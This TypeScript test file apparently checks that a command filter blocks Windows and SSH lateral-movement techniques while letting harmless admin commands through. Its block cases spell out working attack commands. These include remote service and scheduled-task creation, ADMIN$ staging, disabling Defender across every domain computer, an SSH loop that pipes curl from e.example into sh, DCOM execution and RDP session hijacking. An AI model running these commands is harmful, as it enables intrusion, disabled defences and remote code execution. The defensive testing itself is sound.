import { runCases, type TradecraftCase } from "./_tradecraft_testing.ts";

const CASES: TradecraftCase[] = [
  {
    id: "lat.remote_service_create",
    block: ['sc \\\\FS02 create upd binpath= "C:\\Windows\\Temp\\upd.exe" start= auto'],
    pass: [
      "sc \\\\FS02 query spooler",
      'sc \\\\FS02 create agent binpath= "C:\\Program Files\\Agent\\agent.exe"',
    ],
  },
  {
    id: "lat.remote_schtask",
    block: [
      'schtasks /create /s HR-PC7 /u acme\\adm /p x /tn u /tr "C:\\Users\\Public\\u.exe" /sc once /st 00:00',
    ],
    pass: ["schtasks /query /s HR-PC7 /fo LIST"],
  },
  {
    id: "lat.admin_share_stage",
    block: ["copy svc.exe \\\\HR-PC7\\ADMIN$\\svc.exe && sc \\\\HR-PC7 start svc"],
    pass: ["copy report.xlsx \\\\fileserver\\team\\reports\\"],
  },
  {
    id: "lat.mass_remote_exec",
    block: [
      "Invoke-Command -ComputerName (Get-ADComputer -Filter *).Name -ScriptBlock { Stop-Service WinDefend }",
      "for h in $(cat ~/.ssh/known_hosts | cut -d' ' -f1); do ssh -o StrictHostKeyChecking=no $h 'curl -s https://e.example/i | sh'; done",
    ],
    pass: ["Invoke-Command -ComputerName web01 -ScriptBlock { Get-Service W3SVC }"],
  },
  {
    id: "lat.dcom_exec",
    block: [
      `$c=[activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application","10.0.0.7")); $c.Document.ActiveView.ExecuteShellCommand("cmd",$null,"/c calc","7")`,
    ],
    pass: ["[type]::GetTypeFromProgID('Excel.Application')"],
  },
  {
    id: "lat.rdp_hijack",
    block: ["tscon 3 /dest:rdp-tcp#12", "mstsc /shadow:2 /control /noConsentPrompt"],
    pass: ["query user", "mstsc /v:desk07.corp"],
  },
];

runCases("lateral", CASES);
